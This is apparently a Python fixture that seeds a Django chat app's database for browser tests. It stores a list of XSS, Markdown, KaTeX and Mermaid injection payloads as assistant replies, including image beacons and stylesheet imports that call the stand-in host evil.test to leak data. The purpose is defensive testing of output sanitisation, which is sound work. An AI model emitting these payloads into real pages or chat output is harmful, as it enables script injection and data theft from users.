"""What the browser finds: users and days, made once for all browser tests.

Run as `python -m tests.e2e.world` with the environment of the server, as its own process: the
browser tests themselves never touch a database.
"""

from datetime import UTC, datetime, timedelta
from uuid import uuid4

from tests.chat.hostile.payloads import PAYLOADS

PASSWORD = "correct horse battery"
ALICE = "alice@example.org"  # chats
BOB = "bob@example.org"  # has many days and a long one
MALLORY = "mallory@example.org"  # whose model was taken over
TRUDY = "trudy@example.org"  # the same, and many times
OLIVE = "olive@example.org"  # said something long ago that she asks about today
OPERATOR = "operator@example.org"

LONG_DAY = "2025/02/18"
LONG_DAY_EXCHANGES = 60
MANY_DAYS = 40
OLIVES_DAY = "2025/03/03"
OLIVES_WORDS = "My sister Ann lives in Lyon."
SHOWN_DAY = "2025/03/01"
HOSTILE_DAY = "2025/03/02"
BATCHES = 30
# Of every kind some in each.
HOSTILE_BATCHES = [[*PAYLOADS][batch::BATCHES] for batch in range(BATCHES)]

SHOWN = """\
Inline $e^{i\\pi} + 1 = 0$, and alone:

$$
\\int_0^1 x\\,dx = \\frac12
$$

```ts
const first = 1;
const second = 2;
```

```mermaid
graph LR
  A[Ask] --> B[Answer]
```

| a | b |
|---|--:|
| 1 | 2 |
"""

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'http://evil.test/x.css'; body{background:url(http://evil.test/b)}</style>",
    "<form action='http://evil.test'><button autofocus onfocus=alert(1)>x</button></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.test'>",
    "<a href='javascript:alert(1)'>x</a> [x](javascript:alert(1)) [y](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](http://evil.test/leak.png?q=secret) ![y][r]\n\n[r]: http://evil.test/leak2.png",
    '![x" onerror="alert(1)](data:image/png;base64,AAAA)',
    "```html\n<script>alert(1)</script>\n```",
    r"$\href{javascript:alert(1)}{x}$ $\url{http://evil.test}$",
    r"$\includegraphics{http://evil.test/katex.png}$ $\htmlClass{x}{y}$",
    r"$\htmlStyle{background:url(http://evil.test/s)}{y}$ $\htmlData{a=b}{y}$",
    "$\\def\\x{\\x\\x}\\x$ $\\rule{1000000em}{1000000em}$",
    "$</span><script>alert(1)</script>$",
    "$$\n</div><img src=x onerror=alert(1)>\n$$",
    "```mermaid\n%%{init: {'securityLevel': 'loose', 'htmlLabels': true}}%%\n"
    'graph TD\n  A["<img src=x onerror=alert(1)>"] --> B\n```',
    '```mermaid\ngraph TD\n  A[x] --> B\n  click A href "javascript:alert(1)"\n```',
    "```mermaid\ngraph TD\n  A[x] --> B\n  click A call alert(1)\n```",
    "```mermaid\n---\nconfig:\n  securityLevel: loose\n  themeCSS: '* { background: "
    "url(http://evil.test/t) }'\n---\ngraph TD\n  A --> B\n```",
    "```mermaid\ngraph TD\n  A[\"<image href='http://evil.test/i.svg'/>\"] --> B\n"
    "  classDef c fill:url(http://evil.test/f)\n  class A c\n```",
    "```mermaid\nsequenceDiagram\n  A->>B: <script>alert(1)</script>\n"
    "  link A: x @ javascript:alert(1)\n```",
    "```mermaid\nthis is no diagram <script>alert(1)</script>\n```",
    "```mermaid\n"
    + "graph TD\n"
    + "\n".join(f"  A{n} --> A{n + 1}" for n in range(3000))
    + "\n```",
    "<base href='http://evil.test/'><link rel=stylesheet href='http://evil.test/l.css'>",
    "\u202e\u0000 half a line, reversed",
]


def make() -> None:
    """The tables, the users and their days are there."""
    import django

    django.setup()

    from django.core.management import call_command

    from accounts.models import User

    call_command("migrate", interactive=False, verbosity=0)
    for email in (ALICE, BOB, MALLORY, OLIVE, TRUDY):
        User.objects.create_user(email, PASSWORD, display_name=email.partition("@")[0].title())
    User.objects.create_superuser(OPERATOR, PASSWORD, display_name="Operator")
    _make_bobs_days()
    _day(MALLORY, HOSTILE_DAY, ["What do you say?", *HOSTILE])
    _day(MALLORY, SHOWN_DAY, ["What can you show?", SHOWN])
    for batch, names in enumerate(HOSTILE_BATCHES):
        _day(TRUDY, hostile_day(batch), ["What do you say?", *(PAYLOADS[each] for each in names)])
    _day(OLIVE, OLIVES_DAY, [OLIVES_WORDS, "That is a fine town."])


def hostile_day(batch: int) -> str:
    """The day on which these payloads are answers."""
    return f"2025/04/{batch + 1:02}"


def _make_bobs_days() -> None:
    first = datetime(2025, 2, 18, tzinfo=UTC)
    for age in range(1, MANY_DAYS):
        day = first - timedelta(days=age)
        _day(BOB, f"{day:%Y/%m/%d}", [f"Hello on day {age}", "Hello to *you*"])
    said = [
        text
        for number in range(1, LONG_DAY_EXCHANGES + 1)
        for text in (f"Question {number}?", f"Answer {number}, with 100% of the **needle{number}**")
    ]
    _day(BOB, LONG_DAY, said)


def _day(email: str, reference: str, texts: list[str]) -> None:
    """A journal whose first message is the user's; the rest alternate, or all are answers."""
    from accounts.models import User
    from journal.services import import_journal
    from journal.types import PastMessage

    start = datetime.strptime(reference, "%Y/%m/%d").replace(tzinfo=UTC)
    answers_only = email in (MALLORY, TRUDY)
    messages = [
        PastMessage(
            id=uuid4(),
            role="assistant" if (answers_only and index) or index % 2 else "user",
            content=text,
            created_at=start + timedelta(minutes=index),
        )
        for index, text in enumerate(texts)
    ]
    import_journal(
        user_id=User.objects.get(email=email).id,
        journal_id=uuid4(),
        reference=reference,
        messages=messages,
    )


if __name__ == "__main__":
    make()
